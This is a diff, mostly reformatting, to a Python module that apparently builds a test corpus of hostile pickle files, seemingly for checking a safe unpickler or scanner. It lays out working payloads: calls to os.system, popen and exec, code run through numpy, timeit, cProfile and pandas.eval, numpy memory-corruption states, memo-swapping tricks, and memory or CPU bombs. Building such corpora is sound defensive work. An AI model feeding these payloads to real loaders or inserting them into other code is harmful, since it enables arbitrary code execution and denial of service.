@@ -14,7 +14,7 @@
 ``python -m attacks.hostile FOLDER MARK`` writes them to a folder. Loading them with :mod:`pickle` does what they say.
 """
 
-import datetime
+import datetime as dt
 import pickle
 import struct
 import sys
@@ -76,7 +76,11 @@ def code(mark: str) -> Iterator[Attack]:
         p + a.call(a.name("numpy.testing._private.utils", "runstring"), python, a.EMPTY_DICT) + a.STOP,
         "code",
     )
-    yield "reduce-pdb", p + a.call(a.name("timeit", "timeit"), python, a.text("pass"), a.name("time", "time"), a.integer(1)) + a.STOP, "code"
+    yield (
+        "reduce-pdb",
+        p + a.call(a.name("timeit", "timeit"), python, a.text("pass"), a.name("time", "time"), a.integer(1)) + a.STOP,
+        "code",
+    )
     yield "reduce-cprofile", p + a.call(a.name("cProfile", "run"), python) + a.STOP, "code"
     yield "reduce-pandas-eval", p + a.call(a.name("pandas", "eval"), a.text("__import__('os')")) + a.STOP, "code"
     yield (
@@ -189,10 +193,18 @@ def classes(mark: str) -> Iterator[Attack]:
     yield "persistent", p + a.text("os.system") + b"Q" + a.STOP, "code"
     yield "next-buffer", a.proto(5) + b"\x97" + a.STOP, "trick"
     yield "read-only-buffer", a.proto(5) + a.data(b"") + b"\x98" + a.STOP, "trick"
-    yield "reconstructor-base", p + a.call(a.name("copyreg", "_reconstructor"), popen, a.name("builtins", "object"), a.NONE) + a.STOP, "code"
+    yield (
+        "reconstructor-base",
+        p + a.call(a.name("copyreg", "_reconstructor"), popen, a.name("builtins", "object"), a.NONE) + a.STOP,
+        "code",
+    )
     yield (
         "reconstructor-int",
-        p + a.call(a.name("copyreg", "_reconstructor"), a.name("builtins", "bool"), a.name("builtins", "int"), a.integer(7)) + a.STOP,
+        p
+        + a.call(
+            a.name("copyreg", "_reconstructor"), a.name("builtins", "bool"), a.name("builtins", "int"), a.integer(7)
+        )
+        + a.STOP,
         "memory",
     )
     yield "type-call", p + a.call(a.name("builtins", "type"), a.text("X"), a.EMPTY_TUPLE, a.EMPTY_DICT) + a.STOP, "code"
@@ -217,7 +229,11 @@ def indirect(mark: str) -> Iterator[Attack]:
     )
     yield (
         "build-on-class",
-        p + a.name("collections", "OrderedDict") + a.pack(a.NONE, a.mapping(a.text("__reduce__"), exec_)) + a.BUILD + a.STOP,
+        p
+        + a.name("collections", "OrderedDict")
+        + a.pack(a.NONE, a.mapping(a.text("__reduce__"), exec_))
+        + a.BUILD
+        + a.STOP,
         "code",
     )
     yield (
@@ -251,13 +267,33 @@ def indirect(mark: str) -> Iterator[Attack]:
     )
     yield (
         "memo-swap",
-        p + a.text("numpy") + a.put(0) + b"0" + a.text("os") + a.put(0) + b"0" + a.get(0) + a.text("getcwd") + b"\x93)R" + a.STOP,
+        p
+        + a.text("numpy")
+        + a.put(0)
+        + b"0"
+        + a.text("os")
+        + a.put(0)
+        + b"0"
+        + a.get(0)
+        + a.text("getcwd")
+        + b"\x93)R"
+        + a.STOP,
         "code",
     )
     yield (
         "memoize-after-gap",
         # MEMOIZE takes the number of values there are, 1 here, which BINPUT took.
-        p + a.text("numpy") + a.put(1) + b"0" + a.text("os") + a.MEMOIZE + b"0" + a.get(1) + a.text("getcwd") + b"\x93)R" + a.STOP,
+        p
+        + a.text("numpy")
+        + a.put(1)
+        + b"0"
+        + a.text("os")
+        + a.MEMOIZE
+        + b"0"
+        + a.get(1)
+        + a.text("getcwd")
+        + b"\x93)R"
+        + a.STOP,
         "code",
     )
     yield "hidden-by-pop", p + payload(mark) + b"0" + a.NONE + a.STOP, "code"
@@ -280,7 +316,7 @@ def written(mark: str) -> Iterator[Attack]:
     for number in range(6):
         yield f"object-protocol-{number}", pickle.dumps(Runs(), number), "code"
     yield "object-as-key", pickle.dumps({(1, 2): [Runs()]}), "code"
-    yield "object-in-date", pickle.dumps([datetime.date(2020, 1, 1), {"x": (Runs(),)}]), "code"
+    yield "object-in-date", pickle.dumps([dt.date(2020, 1, 1), {"x": (Runs(),)}]), "code"
     good = pickle.dumps([1, 2])
     yield "second-pickle", good + pickle.dumps(Runs()), "trick"
     buffered = bytearray(a.proto(5))
@@ -297,7 +333,14 @@ def dtype(asm: object, kind: str, order: str = "<", flags: int = 0, size: tuple[
     return (
         a.call(a.name("numpy", "dtype"), a.text(kind), b"\x89", b"\x88")
         + a.pack(
-            a.integer(3), a.text(order), a.NONE, a.NONE, a.NONE, a.integer(size[0]), a.integer(size[1]), a.integer(flags)
+            a.integer(3),
+            a.text(order),
+            a.NONE,
+            a.NONE,
+            a.NONE,
+            a.integer(size[0]),
+            a.integer(size[1]),
+            a.integer(flags),
         )
         + a.BUILD
     )
@@ -327,7 +370,10 @@ def array(asm: object, kind: bytes, length: int, content: bytes) -> bytes:
     del asm
     return (
         a.call(
-            a.name("numpy.core.multiarray", "_reconstruct"), a.name("numpy", "ndarray"), a.pack(a.integer(0)), a.data(b"b")
+            a.name("numpy.core.multiarray", "_reconstruct"),
+            a.name("numpy", "ndarray"),
+            a.pack(a.integer(0)),
+            a.data(b"b"),
         )
         + a.pack(a.integer(1), a.pack(a.integer(length)), kind, b"\x89", a.data(content))
         + a.BUILD
@@ -354,8 +400,16 @@ def dtypes(_mark: str) -> Iterator[Attack]:
     )
     yield "size-of-another", p + array(a, dtype(a, "f8", size=(4, 4)), 2, wild) + a.STOP, "memory"
     yield "text-longer-than-said", p + array(a, dtype(a, "S4", "|", 0, (4000, 1)), 1, b"abcd") + a.STOP, "memory"
-    yield "field-beyond-end", p + array(a, structured("V8", {"x": (dtype(a, "f8"), 4096)}, 8), 1, wild) + a.STOP, "memory"
-    yield "field-before-start", p + array(a, structured("V8", {"x": (dtype(a, "f8"), -8)}, 8), 1, wild) + a.STOP, "memory"
+    yield (
+        "field-beyond-end",
+        p + array(a, structured("V8", {"x": (dtype(a, "f8"), 4096)}, 8), 1, wild) + a.STOP,
+        "memory",
+    )
+    yield (
+        "field-before-start",
+        p + array(a, structured("V8", {"x": (dtype(a, "f8"), -8)}, 8), 1, wild) + a.STOP,
+        "memory",
+    )
     hidden = structured("V8", {"x": (dtype(a, "O8", "|", 63), 0)}, 8, 16)
     yield "hidden-object-field", p + array(a, hidden, 1, wild) + a.STOP, "memory"
     both = structured("V8", {"x": (dtype(a, "O8", "|", 63), 0), "y": (dtype(a, "i8"), 0)}, 8, 27)
@@ -364,7 +418,11 @@ def dtypes(_mark: str) -> Iterator[Attack]:
     shared = a.call(a.name("numpy", "dtype"), a.text("f8"), b"\x89", b"\x89")
     state = a.pack(a.integer(3), a.text(">"), a.NONE, a.NONE, a.NONE, a.integer(-1), a.integer(-1), a.integer(0))
     yield "shared-dtype-changed", p + shared + state + a.BUILD + a.STOP, "memory"
-    yield "never-built", p + array(a, a.call(a.name("numpy", "dtype"), a.text("O8"), b"\x89", b"\x88"), 1, wild) + a.STOP, "memory"
+    yield (
+        "never-built",
+        p + array(a, a.call(a.name("numpy", "dtype"), a.text("O8"), b"\x89", b"\x88"), 1, wild) + a.STOP,
+        "memory",
+    )
     nested = dtype(a, "f8")
     for number in range(40):
         nested = structured("V8", {"a": (nested + a.put(number), 0), "b": (a.get(number), 0)}, 8)
@@ -391,16 +449,28 @@ def arrays(_mark: str) -> Iterator[Attack]:
         p + a.call(a.name("numpy", "ndarray"), a.pack(a.integer(1 << 30)), a.text("f8")) + a.STOP,
         "bomb",
     )
-    twice = array(a, f8 + a.put(0), 1, bytes(8)) + a.pack(a.integer(1), a.pack(a.integer(0)), a.get(0), b"\x89", a.data(b"")) + a.BUILD
+    twice = (
+        array(a, f8 + a.put(0), 1, bytes(8))
+        + a.pack(a.integer(1), a.pack(a.integer(0)), a.get(0), b"\x89", a.data(b""))
+        + a.BUILD
+    )
     yield "state-set-twice", p + twice + a.STOP, "memory"
     empty = a.call(
-        a.name("numpy.core.multiarray", "_reconstruct"), a.name("numpy", "ndarray"), a.pack(a.integer(10**9)), a.data(b"d")
+        a.name("numpy.core.multiarray", "_reconstruct"),
+        a.name("numpy", "ndarray"),
+        a.pack(a.integer(10**9)),
+        a.data(b"d"),
     )
     yield "uninitialised", p + empty + a.STOP, "memory"
     yield (
         "class-of-others",
         p
-        + a.call(a.name("numpy.core.multiarray", "_reconstruct"), a.name("builtins", "object"), a.pack(a.integer(0)), a.data(b"b"))
+        + a.call(
+            a.name("numpy.core.multiarray", "_reconstruct"),
+            a.name("builtins", "object"),
+            a.pack(a.integer(0)),
+            a.data(b"b"),
+        )
         + a.STOP,
         "memory",
     )
@@ -468,8 +538,8 @@ def libraries(_mark: str) -> Iterator[Attack]:
 
         def axis(length: int) -> bytes:
             state = a.mapping(
-                a.text("name"), a.NONE, a.text("start"), a.integer(0), a.text("stop"), a.integer(length), a.text("step"),
-                a.integer(1),
+                a.text("name"), a.NONE, a.text("start"), a.integer(0), a.text("stop"), a.integer(length),
+                a.text("step"), a.integer(1),
             )  # fmt: skip
             return a.call(new, a.name("pandas", "RangeIndex"), state)
 
@@ -504,7 +574,16 @@ def bombs(_mark: str) -> Iterator[Attack]:
     laughs = a.EMPTY_TUPLE + b"".join(a.put(n) + a.get(n) + b"\x86" for n in range(60))
     yield "laughing-key", p + a.EMPTY_DICT + laughs + a.NONE + b"s" + a.STOP, "bomb"
     yield "laughing-member", p + b"\x8f" + a.MARK + laughs + b"\x90" + a.STOP, "bomb"
-    many = p + a.sequence(*[a.NONE] * 100_000) + a.put(0) + b"0" + a.name("builtins", "frozenset") + a.put(1) + b"0" + a.MARK
+    many = (
+        p
+        + a.sequence(*[a.NONE] * 100_000)
+        + a.put(0)
+        + b"0"
+        + a.name("builtins", "frozenset")
+        + a.put(1)
+        + b"0"
+        + a.MARK
+    )
     yield "list-copied-often", many + (a.get(1) + a.get(0) + b"\x85R") * 20_000 + b"t" + a.STOP, "bomb"
     yield "long-digits", b"I" + b"9" * 1_000_000 + b"\n.", "bomb"
 
